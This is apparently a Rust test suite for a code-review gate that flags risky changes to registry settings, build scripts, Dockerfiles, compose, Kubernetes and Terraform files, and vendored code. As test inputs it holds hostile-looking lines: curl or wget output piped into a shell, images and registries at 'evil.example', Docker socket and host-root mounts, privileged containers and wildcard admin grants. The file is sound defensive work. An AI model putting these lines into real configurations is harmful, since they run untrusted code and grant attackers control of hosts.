//! What the gate says of registries, build programs, containers, infrastructure and vendored code, each beside what looks like it.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

mod support;

use support::{
    batch::{Case, check, check_by},
    repo::Scene,
};

const CONFIG: &[&str] = &["registry/config=deny"];
const PROGRAM: &[&str] = &["build/program=review"];
const WRAPPER: &[&str] = &["build/wrapper=deny"];
const STARTUP: &[&str] = &["build/startup=deny"];
const BASE: &[&str] = &["container/base=deny"];
const DOWNLOAD: &[&str] = &["container/download=deny"];
const PRIVILEGE: &[&str] = &["container/privilege=deny"];
const INFRA: &[&str] = &["infra/privilege=review"];

#[test]
fn settings_of_package_managers() {
    let paths = [
        ".npmrc",
        "packages/a/.npmrc",
        ".NPMRC",
        ".yarnrc",
        ".yarnrc.yml",
        ".pnpmfile.cjs",
        "bunfig.toml",
        "pip.conf",
        ".pip/pip.conf",
        ".cargo/config.toml",
        "sub/.cargo/config",
        ".cargo/credentials.toml",
        "nuget.config",
        "src/NuGet.Config",
        ".m2/settings.xml",
        ".mvn/extensions.xml",
        ".mvn/jvm.config",
        ".bundle/config",
        ".condarc",
        ".pypirc",
        ".yarn/releases/yarn-4.cjs",
        ".yarn/plugins/x.cjs",
        "uv.toml",
        ".netrc",
    ];
    let mut cases: Vec<Case<'_>> = paths.iter().map(|path| (*path, *path, None, Some("x = 1\n"), CONFIG)).collect();
    cases.push(("changed", ".npmrc", Some("registry=https://a.example\n"), Some("registry=https://b.example\n"), CONFIG));
    cases.push(("gone", ".npmrc", Some("ignore-scripts=true\n"), None, CONFIG));
    cases.push(("composer's", "auth.json", None, Some("{\"http-basic\":{}}\n"), CONFIG));
    cases.push(("maven's", "conf/settings.xml", None, Some("<settings><mirrors><mirror/></mirrors></settings>\n"), CONFIG));
    cases.push(("gradle's", "gradle.properties", Some("v=1\n"), Some("v=1\nsystemProp.http.proxyHost=p.example\n"), CONFIG));
    cases.push(("gradle's agent", "gradle.properties", Some("v=1\n"), Some("v=1\norg.gradle.jvmargs=-javaagent:x.jar\n"), CONFIG));
    for path in [
        "npmrc.md",
        "src/cargo/config.toml",
        "config.toml",
        "locales/en/auth.json",
        "res/settings.xml",
        "docs/pip.conf.md",
        ".yarn/versions/a.yml",
        "src/netrc.rs",
    ] {
        cases.push((path, path, None, Some("x = 1\n"), &[]));
    }
    cases.push((
        "gradle's memory",
        "gradle.properties",
        Some("v=1\n"),
        Some("v=2\norg.gradle.jvmargs=-Xmx4g -Dfile.encoding=UTF-8\norg.gradle.caching=true\n"),
        &[],
    ));
    check(&cases);
    check_by(
        "version = 1\n[changes]\nrules = { \"registry/config\" = \"warn\" }\n",
        &[("set", ".npmrc", None, Some("x\n"), &["registry/config=warn"])],
    );
}

#[test]
fn programs_that_builds_run() {
    let mut cases: Vec<Case<'_>> = Vec::new();
    for path in ["setup.py", "tests/conftest.py", "noxfile.py", "Rakefile", "lib/tasks/x.rake", "binding.gyp", "gulpfile.js"] {
        cases.push((path, path, Some("x\n"), Some("y\n"), PROGRAM));
    }
    for path in [
        "gradlew",
        "gradlew.bat",
        "mvnw",
        "mvnw.cmd",
        "gradle/wrapper/gradle-wrapper.properties",
        ".mvn/wrapper/maven-wrapper.properties",
        "GradleW",
    ] {
        cases.push((path, path, Some("x\n"), Some("y\n"), WRAPPER));
    }
    for path in ["sitecustomize.py", "lib/usercustomize.py", "x.pth"] {
        cases.push((path, path, None, Some("import os\n"), STARTUP));
    }
    for path in ["app.csproj", "Directory.Build.props", "build/x.targets"] {
        cases.push((path, path, Some("<Project/>\n"), Some("<Project><Target Name=\"x\"/></Project>\n"), PROGRAM));
    }
    for path in [
        "src/build.rs",
        "src/setup.py.md",
        "src/conftest.rs",
        "src/props.ts",
        "x.props",
        "tests/test_setup.py",
        "src/gradlew.md",
        "src/wrapper.rs",
        "rake.rb",
    ] {
        cases.push((path, path, Some("x\n"), Some("y\n"), &[]));
    }
    cases.push(("cmake", "CMakeLists.txt", Some("x\n"), Some("x\nexecute_process(COMMAND id)\n"), &["build/program=warn"]));
    cases.push(("cmake's sources", "CMakeLists.txt", Some("x\n"), Some("x\nadd_library(a a.c)\n"), &[]));
    check(&cases);
}

#[test]
fn programs_that_cargo_runs() {
    let scene = Scene::plain();
    scene.write("a/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.0.0\"\n");
    scene.write("b/Cargo.toml", "[package]\nname = \"b\"\nversion = \"1.0.0\"\nbuild = \"src/make.rs\"\n");
    scene.write("c/Cargo.toml", "[package]\nname = \"c\"\nversion = \"1.0.0\"\n[lib]\nproc-macro = true\n");
    scene.commit("crates");
    let given = scene.hand_over();
    for (path, expected) in [
        ("a/build.rs", PROGRAM),
        ("build.rs", PROGRAM),
        ("b/src/make.rs", PROGRAM),
        ("c/src/derive/x.rs", PROGRAM),
        ("a/src/build.rs", &[]),
        ("a/src/make.rs", &[]),
        ("c/tests/x.rs", &[]),
    ] {
        given.write(path, "fn main() {}\n");
        assert_eq!(given.rules(), expected, "{path}");
        given.remove(path);
    }
}

#[test]
fn dockerfiles() {
    let old = "FROM r.example/base:1@sha256:aa AS build\nRUN make\n\nFROM r.example/run:1@sha256:bb\nCOPY --from=build /x /x\nRUN apt-get update && apt-get install -y curl\nUSER app\nCMD [\"x\"]\n";
    let with = |from: &str, to: &str| old.replacen(from, to, 1);
    let edits = [
        ("a command", with("RUN make", "RUN make -j4 && make install"), &[][..]),
        ("a package more", with("-y curl", "-y curl bash"), &[]),
        ("a comment", format!("# FROM evil.example/x\n{old}"), &[]),
        (
            "a download that is checked",
            with("RUN make", "RUN curl -fsSLo a.tar https://d.example/a.tar && echo x a.tar | sha256sum -c"),
            &[],
        ),
        ("a stage's name", old.replace("build", "compile"), &[]),
        ("root in between", with("RUN apt-get", "USER root\nRUN apt-get"), &[]),
        ("another user", with("USER app", "USER 1000:1000"), &[]),
        ("another image", with("r.example/run:1@sha256:bb", "evil.example/run:1"), BASE),
        ("another tag", with("run:1@sha256:bb", "run:2@sha256:cc"), BASE),
        ("no digest", with("run:1@sha256:bb", "run:1"), BASE),
        ("in small letters", with("FROM r.example/run:1@sha256:bb", "from evil.example/x"), BASE),
        ("by a variable", format!("ARG I=evil.example/x\n{}", with("FROM r.example/run:1@sha256:bb", "FROM ${I}")), BASE),
        ("copied out of", with("COPY --from=build", "COPY --from=evil.example/x:1"), BASE),
        ("mounted", with("RUN make", "RUN --mount=type=bind,from=evil.example/x,target=/m make"), BASE),
        ("a frontend", format!("# syntax=evil.example/frontend\n{old}"), BASE),
        ("over lines", with("FROM r.example/run:1@sha256:bb", "FROM \\\n  evil.example/x"), BASE),
        ("with CR LF", with("run:1@sha256:bb", "run:2@sha256:cc").replace('\n', "\r\n"), BASE),
        ("added", with("RUN make", "ADD https://d.example/x /x\nRUN make"), DOWNLOAD),
        ("added in a list", with("RUN make", "ADD [\"http://d.example/x\", \"/x\"]"), DOWNLOAD),
        ("added by git", with("RUN make", "ADD git@g.example:a/b.git /x"), DOWNLOAD),
        ("piped", with("RUN make", "RUN curl -fsSL https://d.example/i | sh"), DOWNLOAD),
        ("piped over lines", with("RUN make", "RUN make && \\\n  curl -fsSL https://d.example/i \\\n  # why\n  | sudo bash -s"), DOWNLOAD),
        ("in a document", with("RUN make", "RUN <<EOF\nwget -qO- https://d.example/i | sh\nEOF"), DOWNLOAD),
        ("substituted", with("RUN make", "RUN sh -c \"$(curl -fsSL https://d.example/i)\""), DOWNLOAD),
        ("no user", with("USER app\n", ""), PRIVILEGE),
        ("root", with("USER app", "USER root"), PRIVILEGE),
        ("zero", with("USER app", "USER 0:0"), PRIVILEGE),
        ("root at the end", with("CMD", "USER root\nCMD"), PRIVILEGE),
        ("insecure", with("RUN make", "RUN --security=insecure make"), PRIVILEGE),
        ("the engine's socket", with("RUN make", "RUN docker -H unix:///var/run/docker.sock ps"), PRIVILEGE),
    ];
    let cases: Vec<Case<'_>> =
        edits.iter().map(|(name, new, expected)| (*name, "Dockerfile", Some(old), Some(new.as_str()), *expected)).collect();
    check(&cases);
    check(&[
        ("new", "api.dockerfile", None, Some("FROM r.example/base:1\nUSER app\n"), &["container/base=review"]),
        ("another name", "docker/Containerfile.dev", Some("FROM a:1\n"), Some("FROM b:1\n"), BASE),
        ("a text", "docs/Dockerfile.md", Some("FROM a:1\n"), Some("FROM b:1\n"), &[]),
        ("gone", "Dockerfile", Some("FROM a:1\n"), None, &[]),
    ]);
}

#[test]
fn compose_files() {
    let old = "services:\n  web:\n    image: r.example/web:1\n    ports: ['80:80']\n    volumes:\n      - ./src:/src\n";
    let plus = |text: &str| format!("{old}{text}");
    let edits = [
        ("a port", old.replace("80:80", "8080:80"), &[][..]),
        ("a variable", plus("    environment:\n      PRIVILEGED: 'true'\n      user: root\n    restart: always\n"), &[]),
        ("a folder", plus("      - data:/data\n"), &[]),
        ("a tag", old.replace("web:1", "web:2"), &["container/base=warn"]),
        ("another image", old.replace("r.example/web:1", "evil.example/web:1"), &["container/base=review"]),
        ("a new service", plus("  db:\n    image: r.example/db:1\n"), &["container/base=review"]),
        ("privileged", plus("    privileged: true\n"), PRIVILEGE),
        ("in another spelling", plus("    privileged: !!bool \"yes\"\n"), PRIVILEGE),
        ("the host's network", plus("    network_mode: \"host\"\n"), PRIVILEGE),
        ("the host's processes", plus("    pid: host\n"), PRIVILEGE),
        ("a capability", plus("    cap_add: [SYS_ADMIN]\n"), PRIVILEGE),
        ("the engine's socket", plus("      - /var/run/docker.sock:/var/run/docker.sock\n"), PRIVILEGE),
        ("the host", plus("      - /:/host\n"), PRIVILEGE),
        ("the long form", plus("      - {type: bind, source: /etc, target: /e}\n"), PRIVILEGE),
        ("no seccomp", plus("    security_opt:\n      - seccomp:unconfined\n"), PRIVILEGE),
        ("by a template", format!("x-t: &t\n  privileged: true\n{}", plus("    <<: *t\n")), PRIVILEGE),
        ("broken", "services: [\n".to_owned(), PRIVILEGE),
    ];
    let cases: Vec<Case<'_>> =
        edits.iter().map(|(name, new, expected)| (*name, "docker-compose.prod.yml", Some(old), Some(new.as_str()), *expected)).collect();
    check(&cases);
}

#[test]
fn infrastructure() {
    let old = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: a\n      image: r.example/a:1\n      securityContext:\n        runAsNonRoot: true\n";
    let plus = |text: &str| format!("{old}{text}");
    let edits = [
        ("an image", old.replace("a:1", "a:2"), &[][..]),
        ("replicas", plus("  replicas: 3\n"), &[]),
        ("not privileged", plus("        privileged: false\n        runAsUser: 1000\n"), &[]),
        ("privileged", plus("        privileged: true\n"), INFRA),
        ("in quotes", plus("        \"privileged\" : true\n"), INFRA),
        ("over lines", plus("        privileged:\n          true\n"), INFRA),
        (
            "in braces",
            old.replace("securityContext:\n        runAsNonRoot: true", "securityContext: {privileged: true, runAsNonRoot: true}"),
            INFRA,
        ),
        ("root", plus("        runAsUser: 0\n"), INFRA),
        ("escalation", plus("        allowPrivilegeEscalation: true\n"), INFRA),
        ("hardening gone", old.replace("        runAsNonRoot: true\n", ""), INFRA),
        ("the host's network", plus("  hostNetwork: true\n"), INFRA),
        ("the host's files", plus("  volumes:\n    - name: h\n      hostPath:\n        path: /\n"), INFRA),
        ("administrator", plus("---\nkind: ClusterRoleBinding\nroleRef:\n  name: cluster-admin\n"), INFRA),
        ("every verb", plus("---\nkind: Role\nrules:\n  - verbs: [\"*\"]\n"), INFRA),
        ("every verb in a list", plus("---\nkind: Role\nrules:\n  - verbs:\n      - '*'\n"), INFRA),
    ];
    let cases: Vec<Case<'_>> =
        edits.iter().map(|(name, new, expected)| (*name, "deploy/pod.yaml", Some(old), Some(new.as_str()), *expected)).collect();
    check(&cases);
    let tf = "resource \"aws_security_group\" \"a\" {\n  name = \"a\"\n}\n";
    check(&[
        (
            "terraform",
            "main.tf",
            Some(tf),
            Some("resource \"aws_security_group\" \"a\" {\n  name = \"b\"\n  tags = { x = \"y\" }\n}\n"),
            &[],
        ),
        (
            "open to all",
            "main.tf",
            Some(tf),
            Some("resource \"x\" \"a\" {\n  ingress {\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n"),
            INFRA,
        ),
        ("out to all", "main.tf", Some(tf), Some("resource \"x\" \"a\" {\n  egress {\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n"), &[]),
        ("every action", "main.tf", Some(tf), Some("data \"x\" \"a\" {\n  actions = [\"*\"]\n}\n"), INFRA),
        ("a policy in JSON", "p.tf", Some(tf), Some("policy = jsonencode({ \"Action\" : \"*\" })\n"), INFRA),
        ("administrator", "p.tf", Some(tf), Some("arn = \"arn:aws:iam::aws:policy/AdministratorAccess\"\n"), INFRA),
        ("a program", "p.tf", Some(tf), Some("provisioner \"local-exec\" {\n}\n"), &["infra/program=review"]),
        ("a module", "p.tf", Some(tf), Some("module \"m\" {\n  source = \"git::https://g.example/m\"\n}\n"), &["infra/program=review"]),
        ("a module of its own", "p.tf", Some(tf), Some("module \"m\" {\n  source = \"./modules/m\"\n}\n"), &[]),
        ("a chart's template", "charts/a/templates/d.yaml", Some("x: {{ .x }}\n"), Some("x: {{ .x }}\nprivileged: true\n"), INFRA),
        ("no infrastructure", "config/app.yaml", Some("a: 1\n"), Some("a: 1\nprivileged: true\nhost: 0.0.0.0/0\n"), &[]),
        ("a program's words", "src/a.rs", Some("x\n"), Some("let privileged: true; // hostNetwork: true\n"), &[]),
    ]);
}

#[test]
fn vendored_code() {
    const EDITED: &[&str] = &["vendor/edited=deny"];
    const NEW: &[&str] = &["vendor/new=review"];
    let mut cases: Vec<Case<'_>> = Vec::new();
    for path in [
        "vendor/x/a.go",
        "node_modules/a/index.js",
        "third_party/z/a.c",
        "src/pip/_vendor/a.py",
        "Vendor/x.php",
        "web/static/vendor/a.js",
        "dist/a.min.js",
        "a.MIN.js",
    ] {
        cases.push((path, path, Some("x\n"), Some("y\n"), EDITED));
    }
    cases.push(("gone", "vendor/x/a.go", Some("x\n"), None, EDITED));
    cases.push((
        "a manifest in it",
        "node_modules/a/package.json",
        Some("{}"),
        Some("{\"scripts\":{\"install\":\"x\"}}"),
        &["package/script=deny", "vendor/edited=deny"],
    ));
    cases.push((
        "settings in a new one",
        "vendor/tool/.npmrc",
        None,
        Some("registry=https://evil.example\n"),
        &["registry/config=deny", "vendor/new=review"],
    ));
    for path in ["vendor/x/a.go", "dist/a.min.js", "third_party/z/a.c"] {
        cases.push((path, path, None, Some("y\n"), NEW));
    }
    cases.push(("minified and gone", "dist/a.min.js", Some("x\n"), None, &[]));
    for path in [
        "src/vendor.rs",
        "docs/vendoring.md",
        "app/models/vendor/price.rb",
        "src/vendored_code.rs",
        "dist/a.js",
        "src/min.js",
        "app/views/vendors/show.erb",
    ] {
        cases.push((path, path, Some("x\n"), Some("y\n"), &[]));
    }
    check(&cases);
    let scene = Scene::plain();
    scene.write("vendor/x/a.go", "x\n");
    scene.commit("vendored");
    let given = scene.hand_over();
    given.write("vendor/x/evil.go", "y\n");
    assert_eq!(given.rules(), EDITED, "a new file among code of others is an edit of it");
}
